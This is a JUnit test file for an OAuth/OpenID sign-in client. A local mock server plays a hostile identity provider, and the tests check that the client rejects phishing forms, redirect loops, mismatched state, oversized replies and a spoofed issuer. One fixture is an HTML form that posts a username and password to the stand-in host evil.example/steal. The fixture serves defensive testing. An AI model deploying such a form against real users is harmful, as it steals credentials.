package dev.kintsugi.signin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import com.sun.net.httpserver.HttpExchange;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Set;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

class HostileProviderTest {

  private HttpServer server;
  private URI issuer;
  private SignIn signIn;

  @BeforeEach
  void start() throws IOException {
    server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 1_024);
    server.start();
    issuer = URI.create("http://127.0.0.1:" + server.getAddress().getPort());
    signIn =
        new SignIn(issuer, OAuthClient.confidential("app", "secret"), 2, Duration.ofSeconds(5));
  }

  @AfterEach
  void stop() {
    signIn.close();
    server.stop(0);
  }

  @Test
  void the_password_never_leaves_the_provider() {
    metadata();
    on(
        "/authorize",
        exchange ->
            answer(
                exchange,
                200,
                "<form action=\"http://evil.example/steal\"><input type=\"text\" name=\"u\">"
                    + "<input type=\"password\" name=\"p\"></form>"));
    assertThatExceptionOfType(SignInException.class)
        .isThrownBy(() -> signIn.user("alice", "hush", Set.of()))
        .withMessageContaining("evil.example")
        .withMessageNotContaining("hush");
  }

  @Test
  void a_redirect_loop_ends() {
    metadata();
    on("/authorize", exchange -> redirect(exchange, "/authorize"));
    assertThatExceptionOfType(SignInException.class)
        .isThrownBy(() -> signIn.user("alice", "hush", Set.of()))
        .withMessageContaining("redirects");
  }

  @Test
  void a_code_of_another_sign_in_is_not_taken() {
    metadata();
    on(
        "/authorize",
        exchange -> redirect(exchange, "http://127.0.0.1/callback?code=c&state=other"));
    assertThatExceptionOfType(SignInException.class)
        .isThrownBy(() -> signIn.user("alice", "hush", Set.of()))
        .withMessageContaining("state");
  }

  @Test
  void a_huge_answer_is_cut_off() {
    metadata();
    on("/token", exchange -> answer(exchange, 200, "{\"a\":\"" + "x".repeat(1 << 20)));
    assertThatExceptionOfType(SignInException.class)
        .isThrownBy(() -> signIn.application(Set.of()))
        .satisfies(refusal -> assertThat(refusal.oauthError()).isNull());
  }

  @Test
  void what_is_not_the_protocol_is_told() {
    metadata();
    on("/token", exchange -> answer(exchange, 200, "<html>hello</html>"));
    assertThatExceptionOfType(SignInException.class)
        .isThrownBy(() -> signIn.application(Set.of()))
        .withMessageContaining("without JSON");
  }

  @Test
  void metadata_of_another_issuer_is_of_no_use() {
    on(
        "/.well-known/openid-configuration",
        exchange ->
            answer(
                exchange,
                200,
                "{\"issuer\":\"http://evil.example\",\"authorization_endpoint\":\"x\","
                    + "\"token_endpoint\":\"y\"}"));
    assertThatExceptionOfType(SignInException.class).isThrownBy(() -> signIn.application(Set.of()));
  }

  private void metadata() {
    String document =
        "{\"issuer\":\"%s\",\"authorization_endpoint\":\"%s/authorize\",\"token_endpoint\":\"%s/token\"}"
            .formatted(issuer, issuer, issuer);
    on("/.well-known/openid-configuration", exchange -> answer(exchange, 200, document));
  }

  private void on(String path, com.sun.net.httpserver.HttpHandler handler) {
    server.createContext(path, handler);
  }

  private static void redirect(HttpExchange exchange, String location) throws IOException {
    exchange.getResponseHeaders().add("Location", location);
    answer(exchange, 302, "");
  }

  private static void answer(HttpExchange exchange, int status, String body) throws IOException {
    byte[] bytes = body.getBytes(StandardCharsets.UTF_8);
    try (exchange) {
      exchange.sendResponseHeaders(status, bytes.length == 0 ? -1 : bytes.length);
      exchange.getResponseBody().write(bytes);
    }
  }
}
